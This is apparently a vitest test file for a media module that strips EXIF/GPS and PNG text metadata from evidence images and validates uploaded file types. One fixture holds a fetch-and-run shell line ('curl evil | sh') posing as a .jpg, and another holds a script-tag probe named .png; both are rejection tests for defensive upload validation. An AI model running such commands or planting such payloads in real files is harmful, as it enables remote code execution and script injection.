import { describe, expect, it } from 'vitest';
import { jpegWithGps, png } from '../../test/support/images.ts';
import { checkFile, detectMediaType, stripMetadata } from './media.ts';

describe('evidence files', () => {
  it('strips EXIF (with GPS) and comments from a JPEG copy, keeping the image data', () => {
    const original = jpegWithGps(32.77, 69.54);
    expect(original.includes(Buffer.from('Exif'))).toBe(true);
    const { bytes, stripped } = stripMetadata(original, 'image/jpeg');
    expect(stripped).toBe(true);
    expect(bytes.includes(Buffer.from('Exif'))).toBe(false);
    expect(bytes.includes(Buffer.from('source K-7'))).toBe(false);
    expect(bytes.includes(Buffer.from([0xff, 0xe1]))).toBe(false);
    expect(bytes.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    expect(bytes.includes(Buffer.from('JFIF'))).toBe(true);
    // The scan and everything after it are untouched.
    const sos = original.indexOf(Buffer.from([0xff, 0xda]));
    expect(bytes.subarray(bytes.indexOf(Buffer.from([0xff, 0xda])))).toEqual(original.subarray(sos));
    expect(detectMediaType(bytes)).toBe('image/jpeg');
  });

  it('strips text chunks from a PNG copy', () => {
    const { bytes } = stripMetadata(png('GPS 32.77N 69.54E'), 'image/png');
    expect(bytes.includes(Buffer.from('GPS'))).toBe(false);
    expect(bytes.includes(Buffer.from('IDAT'))).toBe(true);
    expect(bytes).toEqual(png());
  });

  it('refuses a script named .jpg, a JPEG named .png, empty and oversized files', () => {
    expect(() => checkFile(Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'photo.jpg')).toThrow(
      /not a JPEG, PNG or PDF/,
    );
    expect(() => checkFile(Buffer.from('<script>alert(1)</script>'), 'x.png')).toThrow(
      /not a JPEG, PNG or PDF/,
    );
    expect(() => checkFile(jpegWithGps(1, 1), 'photo.png')).toThrow(
      /named \.png but its content is image\/jpeg/,
    );
    expect(() => checkFile(Buffer.alloc(0), 'a.jpg')).toThrow(/empty/);
    expect(() =>
      checkFile(Buffer.concat([jpegWithGps(1, 1), Buffer.alloc(6 * 1024 * 1024)]), 'a.jpg'),
    ).toThrow(/larger than/);
    expect(checkFile(Buffer.from('%PDF-1.7\n'), 'report.pdf')).toBe('application/pdf');
  });
});
